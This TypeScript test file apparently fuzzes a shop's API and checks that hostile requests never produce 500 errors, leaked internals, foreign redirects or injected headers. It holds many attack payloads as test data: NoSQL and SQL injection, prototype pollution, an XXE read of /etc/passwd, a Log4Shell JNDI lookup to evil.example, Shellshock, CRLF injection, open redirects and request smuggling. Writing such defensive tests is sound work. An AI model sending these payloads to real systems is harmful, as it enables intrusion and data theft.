import { judged, type Result } from "../../rig/result.ts";
import { onStage } from "../../rig/stage.ts";
import { type Answer, ask, type Question } from "../ask.ts";
import { type Call, callsOf, cookieFor, toQuestion, withValue } from "../calls.ts";
import { sendRaw } from "../raw.ts";
import { findIn, openScene, type Scene } from "../scene.ts";

/** Words that stand in the insides of the server and in no answer. */
const insides =
  /\bat [\w.<>]+ \(|node_modules|\/api\/(dist|src)\/|node:internal|SQLITE_|SqliteError|ZodError|TypeError|RangeError|\/tmp\/chargefront/;

const evil = "evil.example";

/** Bodies of which no schema knows anything. */
const bodies: readonly (string | Uint8Array)[] = [
  "",
  "{",
  "null",
  "[]",
  '"text"',
  "1e999",
  "-0",
  "{}",
  "[".repeat(5000),
  `${'{"a":'.repeat(2000)}1${"}".repeat(2000)}`,
  '{"email":{"$gt":""},"password":{"$ne":1}}',
  '{"__proto__":{"isAdmin":true}}',
  '{"constructor":{"prototype":{"isAdmin":true}}}',
  '{"toString":1,"valueOf":2,"then":3}',
  "\uFEFF{}",
  '{"email":"\\u0000"}',
  '{"email":"\\ud800"}',
  new Uint8Array([0xff, 0xfe, 0x7b, 0x00]),
  new Uint8Array([0x7b, 0x22, 0xc3, 0x28, 0x22, 0x7d]),
  "email=a&password=b",
  "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
];

/** Values that take a field for something else than it is. */
const values: readonly unknown[] = [
  null,
  true,
  -1,
  1e308,
  2 ** 63,
  [],
  {},
  [[]],
  "",
  " ",
  "\u0000",
  "\ud800",
  "../../etc/passwd",
  "%00",
  "%0d%0aSet-Cookie:x=1",
  "\r\nX-Evil: 1",
  "{{7*7}}",
  "\u0024{jndi:ldap://evil.example/a}",
  "x".repeat(10_000),
  "9".repeat(400),
  "NaN",
  "0x10",
  "1; waitfor delay '0:0:5'--",
  "() { :;}; echo x",
  "\u202e\u2066",
];

const types = [
  "application/json",
  "text/plain",
  "application/xml",
  "multipart/form-data",
  "application/json; charset=utf-7",
  "x",
];

/** docs/security.md#T37, after what ZAP tries: nothing that anybody sends is answered with the server's insides, with a
 *  way to another site, or with a 500. */
export function errors(seed: number, { isFull }: { readonly isFull: boolean }): Promise<Result> {
  return onStage(seed, async (stage) => {
    const scene = await openScene(stage.api, findIn(stage.dataDir));
    const wrong: string[] = [];
    let asked = 0;
    const judge = (what: string, answer: Pick<Answer, "status" | "headers" | "body">) => {
      asked += 1;
      const said = `${answer.body} ${JSON.stringify(answer.headers)}`;
      if (answer.status >= 500) wrong.push(`${what} is answered ${answer.status}`);
      if (insides.test(said)) wrong.push(`${what} shows ${insides.exec(said)?.[0]}`);
      const to = answer.headers.location;
      if (to !== undefined && new URL(to, scene.api).origin !== scene.api) wrong.push(`${what} leads to ${to}`);
      if (answer.headers["set-cookie"]?.some((line) => line.startsWith("x=")) || "x-evil" in answer.headers) {
        wrong.push(`${what} writes headers`);
      }
    };
    // First, since what an admin is made to store later is shown as it is.
    for (const [what, host] of hostile) {
      for (const path of [
        "/",
        "/Product",
        "/ABOUTUS",
        "/api/products/get",
        "/api/nothing",
        "/login?next=//evil.example",
      ]) {
        const answer = await ask(scene.api, { path, headers: { [what]: host } });
        judge(`${what}: ${host} at ${path}`, answer);
        const mirrored = `${answer.body.replaceAll(/next=\/\/evil\.example/g, "")} ${JSON.stringify(answer.headers)}`;
        if (mirrored.includes(evil)) wrong.push(`${what}: ${host} at ${path} is mirrored`);
      }
    }
    const questions = [
      ...oddBodies(scene, isFull),
      ...oddValues(scene, isFull),
      ...oddMethods(scene),
      ...oddPaths(),
      ...oddHosts(),
    ];
    for (let at = 0; at < questions.length; at += 10) {
      const some = questions.slice(at, at + 10);
      const answers = await Promise.all(
        some.map(([, question], i) =>
          ask(scene.api, { ...question, address: `10.${(at >> 8) & 255}.${at & 255}.${i}` }),
        ),
      );
      for (const [i, answer] of answers.entries()) judge(some[i]?.[0] ?? "", answer);
    }
    for (const bytes of rawOnes) {
      const said = await sendRaw(scene.api, bytes);
      const [, status = "0"] = /^HTTP\/1\.1 (\d+)/.exec(said) ?? [];
      const to = /^location: (.*)$/im.exec(said)?.[1];
      judge(JSON.stringify(bytes.slice(0, 60)), { status: Number(status), headers: { location: to }, body: said });
      if (/^x-evil:/im.test(said)) wrong.push(`${JSON.stringify(bytes.slice(0, 60))} writes a header`);
    }
    const alive = await ask(scene.api, { path: "/api/health" });
    if (alive.status !== 200) wrong.push("the shop is no longer well");
    const note = `${asked} requests: bodies, values, methods, paths, hosts and bytes`;
    return judged("errors", asked, 0, { lost: 0, duplicated: 0, wrong }, note);
  });
}

type Named = readonly [string, Question];

function oddBodies(scene: Scene, isFull: boolean): Named[] {
  const posting = callsOf(scene).filter(({ method, key }) => method !== "GET" && !key.includes("logout"));
  return posting.flatMap((call, at): Named[] => {
    const { path, method } = toQuestion(call, scene.api);
    const headers = { origin: scene.api, cookie: cookieFor(scene, call) };
    const asked = (body: string | Uint8Array, type: string): Named => [
      `${call.key} with ${JSON.stringify(String(body).slice(0, 30))} as ${type}`,
      { path, method: method ?? "", headers: { ...headers, "content-type": type }, body },
    ];
    const all = [
      ...bodies.map((body) => asked(body, "application/json")),
      ...types.map((type) => asked('{"a":1}', type)),
    ];
    return isFull ? all : all.filter((_, i) => i % 5 === at % 5);
  });
}

function oddValues(scene: Scene, isFull: boolean): Named[] {
  const calls = callsOf(scene).filter(({ key }) => !key.includes("logout"));
  return calls.flatMap((call) =>
    call.places.flatMap((place, at): Named[] => {
      // Two values a place in the cut, others for each.
      const some = isFull ? values : values.filter((_, i) => i % 12 === at % 12);
      return some.map((value) => [
        `${call.key} with ${JSON.stringify(value)?.slice(0, 30)} in ${place.part} ${place.path.join(".")}`,
        questionOf(scene, withValue(call, place, value)),
      ]);
    }),
  );
}

function questionOf(scene: Scene, call: Call): Question {
  return toQuestion(call, scene.api, cookieFor(scene, call));
}

function oddMethods(scene: Scene): Named[] {
  const paths = ["/", "/api/products/get", "/api/auth/login", "/images/x", "/assets/x.js", "/sw.js"];
  const methods = ["HEAD", "OPTIONS", "TRACE", "PROPFIND", "PURGE", "PUT", "DELETE", "PATCH", "POST", "M-SEARCH"];
  const headers = { cookie: scene.admin, origin: scene.api, "x-http-method-override": "DELETE" };
  return paths.flatMap((path) => methods.map((method): Named => [`${method} ${path}`, { method, path, headers }]));
}

function oddPaths(): Named[] {
  const paths = [
    `//${evil}`,
    `//${evil}/%2e%2e`,
    `///${evil}`,
    `/\\${evil}`,
    `/%5c${evil}`,
    `/.${evil}`,
    `/http://${evil}/`,
    `http://${evil}/`,
    `http://${evil}/ABOUTUS`,
    `//${evil}/ABOUTUS`,
    `/ABOUTUS?//${evil}`,
    "/ABOUTUS/%0d%0aX-Evil:1",
    "/ABOUTUS?%0d%0aX-Evil:1",
    "/aboutus%0d%0aSet-Cookie:x=1",
    `/PRODUCT/%2f%2f${evil}`,
    `/PRODUCT/..%2f..%2f${evil}`,
    `/VIEWPRODUCT/%0d%0aX-Evil:1`,
    "/%",
    "/%ff",
    "/%c0%ae",
    "/%u0041",
    "/\u00e9",
    `/${"a/".repeat(2000)}`,
    `/?${"a=1&".repeat(3000)}`,
    "/api/products/update/%00",
    "/api/products/update/%ff",
    `/api/products/update/${"9".repeat(5000)}`,
    "/api/orders/__proto__",
    "/api/pages/__proto__",
    "/api/pages/constructor",
    "/images/%2e%2e",
    "/api/catalogue/changes?since=99999999999999999999",
    "/api/catalogue/changes?since[]=1&since=2&__proto__=3",
    "/api/catalogue/changes?constructor[prototype]=1",
  ];
  const names = ["next", "return_url", "redirect", "url", "continue", "returnTo", "goto"];
  const foreign = [
    `//${evil}`,
    `https://${evil}`,
    `/\\${evil}`,
    "javascript:alert(1)",
    `https:${evil}`,
    `/%09/${evil}`,
  ];
  const asked = ["/login", "/Admin", "/payment", "/ABOUTUS", "/reset-password"];
  const redirects = asked.flatMap((path) =>
    names.flatMap((name) => foreign.map((to) => `${path}?${name}=${encodeURIComponent(to)}`)),
  );
  return [...paths, ...redirects].map((path): Named => [path.slice(0, 80), { path: encodeOdd(path) }]);
}

/** Node sends no bytes in a path that are not ASCII. */
function encodeOdd(path: string): string {
  return path.replaceAll(/[^\x21-\x7e]/g, (letter) => encodeURIComponent(letter));
}

const hostile = [
  ["host", evil],
  ["host", `127.0.0.1@${evil}`],
  ["host", `${evil}:80`],
  ["x-forwarded-host", evil],
  ["x-original-url", `http://${evil}/admin`],
  ["x-rewrite-url", "/api/admins"],
  ["forwarded", `host=${evil};proto=https`],
] as const;

function oddHosts(): Named[] {
  const hosts = ["", "[::1", "a b", "evil.example/..", "%00", "a".repeat(5000), "127.0.0.1:99999", "<script>", "'\""];
  return hosts.map(
    (host): Named => [`host ${JSON.stringify(host.slice(0, 40))}`, { path: "/ABOUTUS", headers: { host } }],
  );
}

const rawOnes = [
  "GET / HTTP/1.1\r\n\r\n",
  "GET / HTTP/1.0\r\n\r\n",
  "GET /ABOUTUS HTTP/1.0\r\n\r\n",
  `GET http://${evil}/ABOUTUS HTTP/1.1\r\nHost: ${evil}\r\nConnection: close\r\n\r\n`,
  `GET //${evil}/ABOUTUS HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n\r\n`,
  `GET /ABOUTUS HTTP/1.1\r\nHost: shop\r\nHost: ${evil}\r\nConnection: close\r\n\r\n`,
  `CONNECT ${evil}:443 HTTP/1.1\r\nHost: ${evil}\r\n\r\n`,
  "GET /\r\nX-Evil: 1 HTTP/1.1\r\nHost: shop\r\n\r\n",
  "GET /ABOUTUS\rX-Evil: 1 HTTP/1.1\r\nHost: shop\r\n\r\n",
  "GET /caf\u00e9 HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n\r\n",
  "OPTIONS * HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n\r\n",
  "POST /api/enquiry/post HTTP/1.1\r\nHost: shop\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /evil HTTP/1.1\r\n\r\n",
  "POST /api/enquiry/post HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\nContent-Length: -1\r\n\r\n{}",
  "POST /api/enquiry/post HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nZZ\r\n",
  `GET / HTTP/1.1\r\nHost: shop\r\nX: ${"a".repeat(20_000)}\r\n\r\n`,
  "G\u0000T / HTTP/1.1\r\nHost: shop\r\n\r\n",
  "GET / HTTP/9.9\r\nHost: shop\r\n\r\n",
  "\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc\u0003\u0003",
  "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
] as const;
